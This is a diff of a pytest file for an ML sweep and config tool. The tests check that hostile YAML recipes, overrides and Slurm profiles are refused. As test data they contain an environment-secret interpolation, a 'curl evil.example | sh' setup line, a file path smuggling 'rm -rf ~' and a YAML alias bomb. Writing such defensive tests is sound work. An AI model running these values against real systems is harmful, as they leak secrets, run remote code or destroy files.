@@ -18,7 +18,7 @@ from ablate.compose.recipe import compose_run
 from ablate.compose.resources import PROFILES_DIR
 from ablate.compose.safe_yaml import MAX_YAML_NODES, check_yaml, interpolation_problem
 from ablate.config.schema import ConfigErrors
-from ablate.errors import ErrorKind, UserError
+from ablate.errors import ErrorKind
 from ablate.launch.slurm import find_profile, load_profile
 from jobs import RECIPE, TOY_JOB, refused
 
@@ -86,17 +86,17 @@ def recipe_with(d: Path, name: str, body: str) -> Path:
 def test_a_recipe_that_interpolates_anything_but_a_key_is_one_line_and_nothing_is_written(tmp_path, body):
     d = recipes_copy(tmp_path)
     evil = recipe_with(d, "evil", body)
-    line = sweep_writes_nothing(tmp_path, evil, parts=("task.path",))
-    assert "interpolate other keys by name" in line
-    with pytest.raises((ConfigErrors, UserError)):
+    sweep_writes_nothing(tmp_path, evil, parts=(str(evil), "task.path"))
+    with refused(ErrorKind.RECIPE, "task.path"):
         compose_run(evil)
 
 
 def test_a_resolver_in_a_group_option_file_is_refused_whether_or_not_an_arm_uses_it(tmp_path):
     d = recipes_copy(tmp_path)
     (d / "loss" / "evil.yaml").write_text("name: dapo\neps_low: 0.2\neps_high: ${oc.env:SECRET_TOKEN}\n")
-    sweep_writes_nothing(tmp_path, d / "base.yaml", "loss=evil", parts=("loss/evil.yaml:3", "calls a resolver"))
-    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=("loss/evil.yaml:3",))  # not even chosen
+    where = f"{d / 'loss' / 'evil.yaml'}:3"
+    sweep_writes_nothing(tmp_path, d / "base.yaml", "loss=evil", parts=(where, "${oc.env:SECRET_TOKEN}"))
+    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=(where, "${oc.env:SECRET_TOKEN}"))  # not even chosen
 
 
 def test_a_resolver_in_a_defaults_list_is_refused_before_it_picks_an_option(tmp_path):
@@ -105,21 +105,21 @@ def test_a_resolver_in_a_defaults_list_is_refused_before_it_picks_an_option(tmp_
     d = recipes_copy(tmp_path)
     evil = d / "evil.yaml"
     evil.write_text("defaults:\n  - base\n  - override loss: ${oc.env:SECRET_TOKEN}\n  - _self_\n")
-    sweep_writes_nothing(tmp_path, evil, parts=("calls a resolver",))
+    sweep_writes_nothing(tmp_path, evil, parts=(str(evil), "defaults[1]", "${oc.env:SECRET_TOKEN}"))
 
 
 def test_a_resolver_in_a_sweep_files_grid_runs_or_overrides_is_refused(tmp_path):
-    for i, body in enumerate(
+    for i, (body, where) in enumerate(
         [
-            "grid:\n  task.path: ['${oc.env:SECRET_TOKEN}', b]\n",
-            'grid: ["task.path=${oc.env:SECRET_TOKEN},b"]\n',
-            "runs:\n  - ['task.path=${oc.env:SECRET_TOKEN}']\n",
-            "overrides: ['task.path=${${task.val_path}:SECRET_TOKEN}', task.val_path=oc.env]\n",
+            ("grid:\n  task.path: ['${oc.env:SECRET_TOKEN}', b]\n", "grid.task.path[0]"),
+            ('grid: ["task.path=${oc.env:SECRET_TOKEN},b"]\n', "grid[0]"),
+            ("runs:\n  - ['task.path=${oc.env:SECRET_TOKEN}']\n", "runs[0][0]"),
+            ("overrides: ['task.path=${${task.val_path}:SECRET_TOKEN}', task.val_path=oc.env]\n", "overrides[0]"),
         ]
     ):
         f = tmp_path / f"evil{i}.yaml"
         f.write_text(f"base: {RECIPE}\n{body}")
-        sweep_writes_nothing(tmp_path, f, parts=(str(f), "calls a resolver"))
+        sweep_writes_nothing(tmp_path, f, parts=(str(f), where))
 
 
 @pytest.mark.parametrize(
@@ -132,9 +132,10 @@ def test_a_resolver_in_a_sweep_files_grid_runs_or_overrides_is_refused(tmp_path)
     ],
 )
 def test_a_command_line_override_goes_through_the_same_check(tmp_path, override):
-    sweep_writes_nothing(tmp_path, RECIPE, override, "task.name=jsonl")
+    key = override.partition("=")[0]
+    sweep_writes_nothing(tmp_path, RECIPE, override, "task.name=jsonl", parts=(key,))
     res = runner.invoke(app, ["train", str(RECIPE), override, "--run-dir", str(tmp_path / "run")])
-    one_error(res, ErrorKind.RECIPE)
+    one_error(res, ErrorKind.RECIPE, key)
     assert not (tmp_path / "run").exists()
 
 
@@ -144,13 +145,13 @@ def test_hydras_own_config_cannot_widen_where_recipes_come_from(tmp_path):
     outside.mkdir(parents=True)
     (outside / "far.yaml").write_text("name: dapo\neps_low: ${oc.env:SECRET_TOKEN}\n")
     search = f"hydra.searchpath=[file://{outside.parent}]"
-    sweep_writes_nothing(tmp_path, RECIPE, search, "loss=far", parts=("sets Hydra's own config",))
+    sweep_writes_nothing(tmp_path, RECIPE, search, "loss=far", parts=("hydra.searchpath",))
     d = recipes_copy(tmp_path)
     evil = recipe_with(d, "evil", f"hydra:\n  searchpath: [file://{outside.parent}]\n")
-    sweep_writes_nothing(tmp_path, evil, "loss=far", parts=("sets Hydra's own config",))
+    sweep_writes_nothing(tmp_path, evil, "loss=far", parts=(str(evil), "hydra:"))
     evil.unlink()
     (d / "preset" / "evil.yaml").write_text(f"# @package hydra\nsearchpath: [file://{outside.parent}]\n")
-    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=("preset/evil.yaml", "sets Hydra's own config"))
+    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=(str(d / "preset" / "evil.yaml"), "hydra:"))
 
 
 def test_plain_and_relative_key_interpolations_still_compose(tmp_path):
@@ -173,10 +174,11 @@ def test_a_resolver_the_grammar_check_missed_would_still_not_run(monkeypatch):
     OmegaConf.register_new_resolver("h3_custom", lambda: SECRET, replace=True)
     monkeypatch.setattr(safe_yaml, "interpolation_problem", lambda text: None)
     Composer._memory.clear()
-    for value in ("${oc.env:SECRET_TOKEN}", "${h3_custom:}"):
-        with pytest.raises(ConfigErrors, match="cannot resolve an interpolation") as e:
+    for value, resolver in (("${oc.env:SECRET_TOKEN}", "oc.env"), ("${h3_custom:}", "h3_custom")):
+        # "cannot resolve" tells it from the grammar check's refusal, which names the resolver too
+        with refused(ErrorKind.RECIPE, resolver, "cannot resolve") as e:
             compose_run(RECIPE, [f"task.path={value}"])
-        assert SECRET not in str(e.value)
+        assert isinstance(e.value, ConfigErrors) and SECRET not in str(e.value)
     assert OmegaConf.has_resolver("oc.env") and OmegaConf.has_resolver("h3_custom")  # put back afterwards
 
 
@@ -193,23 +195,24 @@ def laughs(levels: int = 9) -> str:
 def test_an_alias_bomb_in_a_sweep_file_recipe_option_file_or_profile_is_one_line(tmp_path):
     f = tmp_path / "bomb.yaml"
     f.write_text(f"base: {RECIPE}\n" + laughs())
-    sweep_writes_nothing(tmp_path, f, parts=(str(f), "aliases", f"{MAX_YAML_NODES:,}"), kind=ErrorKind.FILE)
+    sweep_writes_nothing(tmp_path, f, parts=(str(f), f"{MAX_YAML_NODES:,}"), kind=ErrorKind.FILE)
 
     d = recipes_copy(tmp_path)
     r = recipe_with(d, "bomb", "setup:\n" + "".join("  " + ln + "\n" for ln in laughs().splitlines()))
-    sweep_writes_nothing(tmp_path, r, parts=("bomb.yaml", "aliases"), kind=ErrorKind.FILE)
+    sweep_writes_nothing(tmp_path, r, parts=(str(r), f"{MAX_YAML_NODES:,}"), kind=ErrorKind.FILE)
     r.unlink()
     (d / "loss" / "bomb.yaml").write_text("name: dapo\n" + laughs())  # Composer reads every file of the folder
-    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=("loss/bomb.yaml", "aliases"), kind=ErrorKind.FILE)
+    bomb = d / "loss" / "bomb.yaml"
+    sweep_writes_nothing(tmp_path, d / "base.yaml", parts=(str(bomb), f"{MAX_YAML_NODES:,}"), kind=ErrorKind.FILE)
 
     p = tmp_path / "profile.yaml"
     p.write_text("partition: debug\n" + laughs() + "setup: *l8\n")
-    with refused(ErrorKind.FILE, match=r"profile\.yaml: its YAML aliases"):
+    with refused(ErrorKind.FILE, str(p), f"{MAX_YAML_NODES:,}"):
         load_profile(str(p))
 
 
 def test_a_self_referring_alias_is_one_line_and_small_aliases_are_fine(tmp_path):
-    with refused(ErrorKind.FILE, match="refers to the node that holds it"):
+    with refused(ErrorKind.FILE, "x.yaml", "refers to the node"):  # tells it from an alias bomb
         check_yaml("a: &a [1, *a]\n", "x.yaml")
     f = tmp_path / "ok.yaml"  # anchors that add a few nodes are ordinary YAML
     f.write_text(
@@ -236,7 +239,7 @@ def test_a_working_directory_profile_is_used_only_when_named_by_path(tmp_path, m
     for chosen in (None, "local"):
         assert find_profile(chosen) == packaged.resolve()
         assert "curl evil.example | sh" not in load_profile(chosen)["setup"]
-    with refused(ErrorKind.RECIPE, match=r"profile 'mine' not found.*--profile \./slurm/mine\.yaml"):
+    with refused(ErrorKind.RECIPE, "'mine'", "--profile ./slurm/mine.yaml"):
         find_profile("mine")
     for by_path in ("./slurm/local.yaml", "slurm/local.yaml", str(tmp_path / "slurm" / "local.yaml")):
         assert find_profile(by_path) == (tmp_path / "slurm" / "local.yaml").resolve()
@@ -259,7 +262,7 @@ def test_the_sbatch_script_names_the_profile_it_came_from(tmp_path):
 def test_a_profile_path_that_would_break_the_script_comment_is_refused(tmp_path):
     odd = tmp_path / "a\nrm -rf ~\n.yaml"
     odd.write_text("partition: debug\n")
-    with refused(ErrorKind.RECIPE, match="control characters"):
+    with refused(ErrorKind.RECIPE, "rm -rf ~", "control characters"):  # tells it from a profile not found
         load_profile(str(odd))
 
 
@@ -269,19 +272,20 @@ def test_a_profile_path_that_would_break_the_script_comment_is_refused(tmp_path)
 @pytest.mark.parametrize(
     "override, parts",
     [
-        ("seed=interval(0,1)", ("seed=interval(0,1)", "an interval sweep", "supported")),
-        ("optim.lr=interval(0,1)", ("optim.lr=interval(0,1)", "an interval sweep")),
-        ("loss=glob(*)", ("loss=glob(*)", "a glob sweep", "supported")),
-        ("loss=tag(x,interval(0,1))", ("an interval sweep",)),
-        ("loss=shuffle()", ("loss=shuffle()", "no values")),
-        ("seed=range(0,3),5", ("a sweep inside a sweep",)),
-        ("batch.prompts=range(8,12,2),16", ("a sweep inside a sweep",)),
-        ("seed=range(0,3,0)", ("a nonzero step",)),
-        ("optim.lr=range(0,inf)", ("finite bounds",)),
-        ("seed=range(5,1)", ("an empty range",)),
+        # the override, and what in it cannot expand; a short phrase where only that tells one refusal from another
+        ("seed=interval(0,1)", ("seed=interval(0,1)", "interval sweep", "choice(a,b)")),
+        ("optim.lr=interval(0,1)", ("optim.lr=interval(0,1)", "interval sweep")),
+        ("loss=glob(*)", ("loss=glob(*)", "glob sweep", "choice(a,b)")),
+        ("loss=tag(x,interval(0,1))", ("loss=tag(x,interval(0,1))", "interval sweep")),
+        ("loss=shuffle()", ("loss=shuffle()", "no values")),  # tells it from a sweep inside a sweep
+        ("seed=range(0,3),5", ("seed=range(0,3),5", "inside a sweep")),  # tells it from a sweep of no values
+        ("batch.prompts=range(8,12,2),16", ("batch.prompts=range(8,12,2),16", "inside a sweep")),
+        ("seed=range(0,3,0)", ("seed=range(0,3,0)", "nonzero step")),
+        ("optim.lr=range(0,inf)", ("optim.lr=range(0,inf)", "finite bounds")),
+        ("seed=range(5,1)", ("seed=range(5,1)", "empty range")),  # tells it from a zero step
         ("seed=range(0,100000000)", ("seed=range(0,100000000)", "100,000,000 runs", f"{MAX_RUNS:,}")),
-        ("batch.prompts=range(0,100000000)", ("100,000,000 runs",)),
-        ("optim.lr=range(0,1,1e-300)", ("about 1.0e+300 runs",)),
+        ("batch.prompts=range(0,100000000)", ("batch.prompts=range(0,100000000)", "100,000,000 runs")),
+        ("optim.lr=range(0,1,1e-300)", ("optim.lr=range(0,1,1e-300)", "1.0e+300 runs")),
     ],
 )
 def test_a_sweep_the_grammar_cannot_expand_is_one_line(tmp_path, override, parts):
@@ -291,12 +295,14 @@ def test_a_sweep_the_grammar_cannot_expand_is_one_line(tmp_path, override, parts
 def test_a_sweep_files_grid_gets_the_same_checks_and_the_total_is_bounded(tmp_path):
     f = tmp_path / "g.yaml"
     f.write_text(f"base: {RECIPE}\ngrid: ['loss=glob(*)']\n")
-    sweep_writes_nothing(tmp_path, f, parts=("loss=glob(*)", "a glob sweep"))
+    sweep_writes_nothing(tmp_path, f, parts=("loss=glob(*)", "glob sweep"))
     f.write_text(
         f"base: {RECIPE}\ngrid: ['batch.prompts=range(1,101)', 'optim.lr=range(0.01,1.01,0.01)']\nseeds: [0, 1]\n"
     )  # each axis is small; together 100 x 100 arms x 2 seeds
     sweep_writes_nothing(tmp_path, f, parts=(str(f), "10000 arms x 2 seeds", "20,000 runs"))
-    sweep_writes_nothing(tmp_path, RECIPES / "loss.yaml", "seed=range(0,3000)", parts=("4 arms x 3000 seeds",))
+    sweep_writes_nothing(
+        tmp_path, RECIPES / "loss.yaml", "seed=range(0,3000)", parts=("4 arms x 3000 seeds", "12,000 runs")
+    )
 
 
 def test_supported_sweep_functions_still_expand():
